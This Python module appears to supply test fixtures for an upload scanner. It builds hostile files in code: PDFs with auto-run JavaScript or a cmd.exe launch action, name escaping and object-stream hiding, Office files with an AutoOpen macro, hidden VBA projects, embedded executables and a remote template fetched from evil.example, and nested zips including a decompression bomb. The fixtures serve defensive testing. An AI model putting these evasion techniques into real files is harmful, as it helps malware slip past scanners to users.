"""Hostile upload files built in code: PDFs with active content, Office files with macros or
embedded programs (a minimal OLE compound-file writer), nested archives."""

import io
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

# PDFs


def clean_pdf() -> bytes:
    """A one-page PDF made by pypdf, as a word processor would export it."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_uri(0, "https://www.example.org/", [10, 10, 100, 30])
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_open_action_javascript() -> bytes:
    """pypdf's writer: the document runs JavaScript when it is opened."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('hallo')"),
        }
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("setup.exe", b"MZ\x90\x00 program")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def build_pdf(objects: list[bytes]) -> bytes:
    """A PDF with these objects (numbered from 1, object 1 the catalog) and a classic xref."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_with_escaped_names() -> bytes:
    """`/J#61vaScript` and `/#4AS` are /JavaScript and /JS to every PDF reader."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /S /J#61vaScript /#4AS (app.launchURL\\('https://example.org'\\)) >>",
        ]
    )


def pdf_with_launch_action() -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /S /L#61unch /F (cmd.exe) >>",
        ]
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """The JavaScript action lives in a compressed object stream (PDF 1.5), found only through the
    cross-reference stream: a byte search sees deflated noise."""
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
    offsets[2] = len(out)
    out += b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    offsets[3] = len(out)
    out += (
        b"3 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    offsets[5] = len(out)
    rows = [
        struct.pack(">BIH", 0, 0, 0xFFFF),
        struct.pack(">BIH", 1, offsets[1], 0),
        struct.pack(">BIH", 1, offsets[2], 0),
        struct.pack(">BIH", 1, offsets[3], 0),
        struct.pack(">BIH", 2, 3, 0),  # object 4: in object stream 3, at index 0
        struct.pack(">BIH", 1, offsets[5], 0),
    ]
    table = b"".join(rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


# OLE compound files (the container of legacy Office files, vbaProject.bin and embedded objects)

SECTOR = 512
FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
MINI_STREAM_CUTOFF = 4096


def ole_file(entries: dict[str, bytes | None], *, root_clsid: bytes = b"\x00" * 16) -> bytes:
    """A minimal OLE compound file (version 3). `entries` maps paths ("VBA/dir") to stream data,
    or to None for a storage. Streams are padded with zeros to the mini-stream cutoff, so that every
    one lives in ordinary sectors and no mini stream is needed."""
    # Directory: the root, then every storage and stream; children form a right-sibling chain.
    nodes: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index: dict[str, int] = {"": 0}
    for path in sorted(entries, key=lambda p: p.count("/")):
        parent, _, name = path.rpartition("/")
        for part_path in _parents(parent):
            if part_path not in index:
                index[part_path] = len(nodes)
                nodes.append({"name": part_path.rpartition("/")[2], "type": 1, "children": []})
                nodes[index[part_path.rpartition("/")[0]]]["children"].append(index[part_path])
        data = entries[path]
        index[path] = len(nodes)
        if data is None:
            nodes.append({"name": name, "type": 1, "children": []})
        else:
            # Padded to the cutoff: shorter streams would have to live in the mini stream.
            padded = data.ljust(MINI_STREAM_CUTOFF, b"\x00")
            nodes.append({"name": name, "type": 2, "children": [], "data": padded})
        nodes[index[parent]]["children"].append(index[path])

    streams = [n for n in nodes if n["type"] == 2]
    stream_sectors = [
        -(-max(len(n["data"]), MINI_STREAM_CUTOFF) // SECTOR) for n in streams
    ]  # ceil
    directory_sectors = -(-len(nodes) * 128 // SECTOR)
    data_sectors = directory_sectors + sum(stream_sectors)
    fat_sectors = 1
    while fat_sectors * (SECTOR // 4) < fat_sectors + data_sectors:
        fat_sectors += 1
    fat = [FAT_SECTOR] * fat_sectors
    directory_start = len(fat)
    fat += [len(fat) + i + 1 for i in range(directory_sectors - 1)] + [END]
    body = bytearray()
    for node, count in zip(streams, stream_sectors, strict=True):
        node["start"] = len(fat)
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [END]
        body += node["data"].ljust(count * SECTOR, b"\x00")
    fat += [FREE] * (fat_sectors * (SECTOR // 4) - len(fat))

    directory = bytearray()
    for node in nodes:
        children = node["children"]
        for position, child in enumerate(children):
            nodes[child]["right"] = children[position + 1] if position + 1 < len(children) else None
        name = node["name"].encode("utf-16-le") + b"\x00\x00"
        directory += struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            node["type"],
            1,  # black
            NO_STREAM,
            NO_STREAM if node.get("right") is None else node["right"],
            children[0] if children else NO_STREAM,
            root_clsid if node["type"] == 5 else b"\x00" * 16,
            0,
            0,
            0,
            node.get("start", END if node["type"] == 5 else 0),
            len(node.get("data", b"")),
        )
    directory = directory.ljust(directory_sectors * SECTOR, b"\x00")
    # Unused directory slots: empty entries whose sibling and child ids say "none".
    empty = struct.pack(
        "<64sHBBIII16sIQQIQ", b"", 0, 0, 0, NO_STREAM, NO_STREAM, NO_STREAM, b"", 0, 0, 0, 0, 0
    )
    for slot in range(len(nodes), directory_sectors * SECTOR // 128):
        directory[slot * 128 : (slot + 1) * 128] = empty

    difat = list(range(fat_sectors)) + [FREE] * (109 - fat_sectors)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        fat_sectors,
        directory_start,
        0,
        MINI_STREAM_CUTOFF,
        END,
        0,
        END,
        0,
    ) + struct.pack("<109I", *difat)
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    return header + fat_bytes + bytes(directory) + bytes(body)


def _parents(path: str) -> list[str]:
    parts = [p for p in path.split("/") if p]
    return ["/".join(parts[: i + 1]) for i in range(len(parts))]


def vba_project() -> bytes:
    """A vbaProject.bin: the storages and streams MS-OVBA requires of a VBA project."""
    return ole_file(
        {
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
            "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "VBA/dir": b"\x01\x00\x00",
            "VBA/ThisDocument": b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n',
        }
    )


def ole_package(filename: str, payload: bytes) -> bytes:
    """An embedded OLE "Package" object (oleObject1.bin) carrying a file, as Word stores one."""
    name = filename.encode() + b"\x00"
    native = (
        struct.pack("<H", 2)
        + name
        + b"C:\\Temp\\"
        + name
        + struct.pack("<II", 0x00030000, 0)
        + b"C:\\Temp\\"
        + name
        + struct.pack("<I", len(payload))
        + payload
    )
    return ole_file({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


# Zip archives and OOXML


def zip_bytes(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The same bytes every time: a fixed member date, so that xdist's workers, which each build
    the parametrised tests' arguments, collect the same test ids."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.external_attr = 0o600 << 16  # what writestr gives a member named by a string
            archive.writestr(info, data, compress_type=compression)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCUMENT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.org/" TargetMode="External"/>'
    b"</Relationships>"
)


def docx_bytes(
    extra: dict[str, bytes] | None = None, *, content_types: bytes = CONTENT_TYPES
) -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": content_types,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
            "word/_rels/document.xml.rels": DOCUMENT_RELS,
            **(extra or {}),
        }
    )


def docm_renamed_to_docx() -> bytes:
    """A macro document (.docm: a vbaProject.bin and its content type) saved as .docx."""
    types = CONTENT_TYPES.replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    ).replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    return docx_bytes({"word/vbaProject.bin": vba_project()}, content_types=types)


def docx_with_hidden_vba_project() -> bytes:
    """A VBA project under an innocent name and no macro content type: only parsing finds it."""
    return docx_bytes({"word/media/image1.bin": vba_project()})


def docx_with_embedded_program() -> bytes:
    return docx_bytes(
        {"word/embeddings/oleObject1.bin": ole_package("factuur.exe", b"MZ\x90\x00" + b"\x00" * 64)}
    )


def docx_with_remote_template() -> bytes:
    """Template injection: Word fetches (and runs the macros of) a template from elsewhere."""
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/sjabloon.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    return docx_bytes({"word/_rels/settings.xml.rels": rels})


def legacy_doc_with_macros() -> bytes:
    """A Word 97-2003 file (.doc) with a VBA project under Macros/, where Word keeps it."""
    return ole_file(
        {
            "WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 60,
            "Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n',
            "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
            "Macros/VBA/dir": b"\x01\x00\x00",
        }
    )


def nested_zip(depth: int, inner: dict[str, bytes]) -> bytes:
    """A zip inside a zip inside ... `depth` levels, the innermost holding `inner`."""
    content = zip_bytes(inner)
    for level in range(depth - 1, 0, -1):
        content = zip_bytes({f"laag{level}.zip": content}, compression=zipfile.ZIP_STORED)
    return content


def nested_zip_bomb() -> bytes:
    """42.zip in miniature: each level looks harmless, the innermost unpacks to 100 MB of zeros."""
    zeros = zip_bytes({f"deel{i}.txt": b"0" * 10_000_000 for i in range(10)})
    # Stored, not deflated, in the outer zip: its own size and ratio look harmless.
    return zip_bytes(
        {"bijlagen.zip": zeros, "leesmij.txt": b"Zie bijlagen."}, compression=zipfile.ZIP_STORED
    )
